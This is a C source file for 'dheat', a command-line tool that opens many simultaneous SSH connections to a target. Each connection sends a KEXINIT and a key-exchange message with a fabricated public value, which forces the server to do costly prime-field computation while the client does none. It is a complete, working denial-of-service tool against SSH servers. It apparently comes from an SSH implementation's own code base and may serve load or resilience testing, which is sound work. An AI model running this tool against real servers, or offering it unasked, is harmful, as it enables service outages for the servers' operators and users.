/*
 * dheat: makes a server calculate in prime fields and calculates nothing itself.
 *
 *   dheat FROM HOST PORT METHOD SECONDS AT-ONCE
 *
 * Each connection sends its line, KEXINIT with METHOD alone and message 30 with a number
 * that it made up, all at once; when the answer has come, or the server has closed, the
 * next one begins. Ends after SECONDS or when it is terminated. Prints how many were
 * answered, and how many the server closed before.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "abi/wire/mpint.h"
#include "control/kex/kex.h"

#define AT_ONCE_MAX 256
#define IN_MAX 8192u
#define LINE "SSH-2.0-dheat\r\n"

struct conn {
	int fd;
	bool said;
	size_t len;
	uint8_t in[IN_MAX];
};

static struct conn conns[AT_ONCE_MAX];
static uint8_t hello[8192];
static size_t hello_len;
static unsigned answered, closed;
static volatile sig_atomic_t over;

static void
on_term(int sig)
{
	(void)sig;
	over = 1;
}

/* RFC 4253 section 6, before any keys. */
static void
put_packet(struct put *w, struct view payload)
{
	static const uint8_t zeros[16];
	size_t padding = 8 - (5 + payload.len) % 8;

	padding += padding < SSH_PADDING_MIN ? 8 : 0;
	put_u32(w, (uint32_t)(1 + payload.len + padding));
	put_u8(w, (uint8_t)padding);
	put_bytes(w, payload.data, payload.len);
	put_bytes(w, zeros, padding);
}

static void
make_hello(const char *method)
{
	static const uint8_t cookie[16], share[256] = { 0x5a, [255] = 3 };
	struct kex_offer offer = *kex_offer_default(true);
	struct put w = put_of(hello, sizeof(hello));
	uint8_t buf[4096];
	struct put m = put_of(buf, sizeof(buf));

	offer.kex = method;
	put_bytes(&w, LINE, sizeof(LINE) - 1);
	kexinit_build(&m, &offer, false, false, cookie);
	put_packet(&w, put_view(&m));
	m = put_of(buf, sizeof(buf));
	put_u8(&m, SSH_MSG_KEX_ECDH_INIT);
	put_mpint(&m, view_of(share, sizeof(share)));
	put_packet(&w, put_view(&m));
	hello_len = put_len(&w);
}

static struct sockaddr_in
address(const char *text, unsigned port)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons((uint16_t)port) };

	if (inet_pton(AF_INET, text, &a.sin_addr) != 1) {
		fprintf(stderr, "dheat: %s is no IPv4 address\n", text);
		exit(2);
	}
	return a;
}

static void
begin(struct conn *c, const struct sockaddr_in *from, const struct sockaddr_in *to)
{
	c->len = 0;
	c->said = false;
	c->fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
	if (c->fd < 0 || bind(c->fd, (const struct sockaddr *)from, sizeof(*from)) != 0 ||
	    (connect(c->fd, (const struct sockaddr *)to, sizeof(*to)) != 0 && errno != EINPROGRESS)) {
		perror("dheat");
		exit(1);
	}
}

static void
end(struct conn *c)
{
	const struct linger none = { 1, 0 };

	setsockopt(c->fd, SOL_SOCKET, SO_LINGER, &none, sizeof(none));
	close(c->fd);
	c->fd = -1;
}

/* Is the answer there: the second packet behind the server's line? */
static bool
has_answer(const struct conn *c)
{
	const uint8_t *nl = memchr(c->in, '\n', c->len);
	struct cur in = cur_of(c->in, c->len);
	uint8_t msg = 0;

	if (nl == NULL)
		return false;
	cur_take(&in, (size_t)(nl - c->in) + 1);
	for (int i = 0; i < 2; i++) {
		struct view packet = cur_string(&in);

		if (in.bad || packet.len < 2)
			return false;
		msg = packet.data[1];
	}
	return msg == SSH_MSG_KEX_ECDH_REPLY;
}

static void
serve(struct conn *c, short events)
{
	ssize_t n;

	if (!c->said && (events & POLLOUT) != 0) {
		c->said = true;
		if (send(c->fd, hello, hello_len, MSG_NOSIGNAL) != (ssize_t)hello_len) {
			closed++;
			end(c);
			return;
		}
	}
	if ((events & (POLLIN | POLLHUP | POLLERR)) == 0)
		return;
	n = recv(c->fd, c->in + c->len, sizeof(c->in) - c->len, 0);
	if (n < 0 && errno == EAGAIN)
		return;
	if (n > 0)
		c->len += (size_t)n;
	if (has_answer(c)) {
		answered++;
		end(c);
	} else if (n <= 0 || c->len == sizeof(c->in)) {
		closed++;
		end(c);
	}
}

int
main(int argc, char **argv)
{
	struct pollfd p[AT_ONCE_MAX];
	struct sockaddr_in from, to;
	unsigned at_once;
	time_t until;

	if (argc != 7 || (at_once = (unsigned)strtoul(argv[6], NULL, 10)) == 0 || at_once > AT_ONCE_MAX) {
		fputs("usage: dheat FROM HOST PORT METHOD SECONDS AT-ONCE\n", stderr);
		return 2;
	}
	from = address(argv[1], 0);
	to = address(argv[2], (unsigned)strtoul(argv[3], NULL, 10));
	make_hello(argv[4]);
	signal(SIGTERM, on_term);
	for (unsigned i = 0; i < at_once; i++)
		conns[i].fd = -1;
	for (until = time(NULL) + strtol(argv[5], NULL, 10); over == 0 && time(NULL) < until;) {
		for (unsigned i = 0; i < at_once; i++) {
			if (conns[i].fd < 0)
				begin(&conns[i], &from, &to);
			p[i] = (struct pollfd){ conns[i].fd, conns[i].said ? POLLIN : POLLIN | POLLOUT, 0 };
		}
		if (poll(p, at_once, 100) < 0)
			continue;
		for (unsigned i = 0; i < at_once; i++)
			if (p[i].revents != 0)
				serve(&conns[i], p[i].revents);
	}
	printf("answered %u closed %u\n", answered, closed);
	return 0;
}
